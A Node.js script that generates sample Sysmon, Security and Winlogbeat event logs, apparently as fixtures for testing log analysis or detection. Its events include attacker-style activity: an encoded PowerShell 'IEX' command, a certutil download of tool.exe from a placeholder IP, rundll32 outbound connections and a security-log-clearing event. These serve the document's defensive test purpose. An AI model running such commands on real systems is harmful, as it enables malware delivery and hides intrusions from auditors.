// Writes the example event logs in logs/ from the small event list below, so that they can be
// regenerated and reviewed. Hosts, users and addresses are made up (documentation ranges).
// Run: node examples/make-logs.mjs
import { mkdirSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';

const here = new URL('./logs/', import.meta.url);
mkdirSync(here, { recursive: true });

const SYSMON = { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' };
let recordId = 4100;

/** A Sysmon event in the shape EVTX readers write with separate attributes. */
function sysmon(eventId, time, data) {
  recordId++;
  return {
    Event_attributes: { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
    Event: {
      System: {
        Provider_attributes: SYSMON,
        EventID: eventId,
        Version: 5,
        Level: 4,
        Task: eventId,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated_attributes: { SystemTime: time },
        EventRecordID: recordId,
        Correlation: null,
        Execution_attributes: { ProcessID: 2032, ThreadID: 2092 },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: 'WS-0142.corp.example',
        Security_attributes: { UserID: 'S-1-5-18' },
      },
      EventData: { RuleName: '', UtcTime: time.replace('T', ' ').replace('Z', ''), ...data },
    },
  };
}

function processCreation(time, image, commandLine, parent = 'C:\\Windows\\explorer.exe') {
  return sysmon(1, time, {
    ProcessGuid: '365ABB72-D7B0-5CE6-0000-001077C56D00',
    ProcessId: 3388,
    Image: image,
    FileVersion: '10.0.19041.1',
    OriginalFileName: image.split('\\').pop().toUpperCase(),
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Users\\alice\\',
    User: 'CORP\\alice',
    LogonId: '0xf347',
    IntegrityLevel: 'Medium',
    Hashes: 'SHA256=0000000000000000000000000000000000000000000000000000000000000000',
    ParentImage: parent,
    ParentCommandLine: parent,
  });
}

function networkConnection(time, image, destination, port) {
  return sysmon(3, time, {
    ProcessGuid: '365ABB72-D7B0-5CE6-0000-0010A1B2C3D4',
    ProcessId: 5120,
    Image: image,
    User: 'CORP\\alice',
    Protocol: 'tcp',
    Initiated: true,
    SourceIsIpv6: destination.includes(':'),
    SourceIp: destination.includes(':') ? 'fe80::20c:29ff:fe12:3456' : '10.20.30.40',
    SourceHostname: 'WS-0142.corp.example',
    SourcePort: 52543,
    DestinationIsIpv6: destination.includes(':'),
    DestinationIp: destination,
    DestinationHostname: '',
    DestinationPort: port,
  });
}

const sysmonEvents = [
  processCreation('2026-11-30T09:12:01.120000Z', 'C:\\Windows\\System32\\notepad.exe', '"C:\\Windows\\System32\\notepad.exe" C:\\Users\\alice\\todo.txt'),
  processCreation('2026-11-30T09:14:22.500000Z', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile /enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='),
  processCreation('2026-11-30T09:15:03.010000Z', 'C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/tool.exe C:\\Users\\Public\\tool.exe', 'C:\\Windows\\System32\\cmd.exe'),
  networkConnection('2026-11-30T09:16:40.000000Z', 'C:\\Windows\\System32\\rundll32.exe', '198.51.100.23', 443),
  networkConnection('2026-11-30T09:16:41.000000Z', 'C:\\Windows\\System32\\rundll32.exe', '2001:db8:85a3::8a2e:370:7334', 443),
  networkConnection('2026-11-30T09:16:42.000000Z', 'C:\\Windows\\System32\\rundll32.exe', '10.20.0.5', 445),
  networkConnection('2026-11-30T09:16:43.000000Z', 'C:\\Windows\\System32\\rundll32.exe', 'fe80::1', 445),
  networkConnection('2026-11-30T09:17:00.000000Z', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', '198.51.100.80', 443),
];
writeFileSync(new URL('sysmon.jsonl', here), sysmonEvents.map((event) => JSON.stringify(event)).join('\n') + '\n');

/** The Security log clearing event (1102), whose data sits under UserData. */
const logCleared = {
  Event_attributes: { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
  Event: {
    System: {
      Provider_attributes: { Name: 'Microsoft-Windows-Eventlog', Guid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}' },
      EventID: 1102,
      Version: 0,
      Level: 4,
      Task: 104,
      Opcode: 0,
      Keywords: '0x4020000000000000',
      TimeCreated_attributes: { SystemTime: '2026-11-30T09:20:00.000000Z' },
      EventRecordID: 88211,
      Correlation: null,
      Execution_attributes: { ProcessID: 812, ThreadID: 4404 },
      Channel: 'Security',
      Computer: 'WS-0142.corp.example',
      Security: null,
    },
    UserData: {
      LogFileCleared_attributes: { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
      LogFileCleared: { SubjectUserSid: 'S-1-5-21-1111111111-2222222222-3333333333-1104', SubjectUserName: 'alice', SubjectDomainName: 'CORP', SubjectLogonId: '0xf347' },
    },
  },
};
writeFileSync(new URL('security.json', here), JSON.stringify([logCleared], null, 2) + '\n');

/** The same kind of Sysmon events as Winlogbeat ships them, gzip-compressed. */
function winlogbeat(event) {
  const system = event.Event.System;
  return {
    '@timestamp': system.TimeCreated_attributes.SystemTime,
    host: { name: system.Computer },
    event: { code: String(system.EventID), provider: system.Provider_attributes.Name },
    winlog: {
      channel: system.Channel,
      event_id: String(system.EventID),
      provider_name: system.Provider_attributes.Name,
      computer_name: system.Computer,
      record_id: system.EventRecordID,
      event_data: Object.fromEntries(Object.entries(event.Event.EventData).map(([key, value]) => [key, String(value)])),
    },
  };
}
const beats = sysmonEvents.slice(1, 5).map(winlogbeat);
writeFileSync(new URL('winlogbeat.ndjson.gz', here), gzipSync(beats.map((event) => JSON.stringify(event)).join('\n') + '\n'));
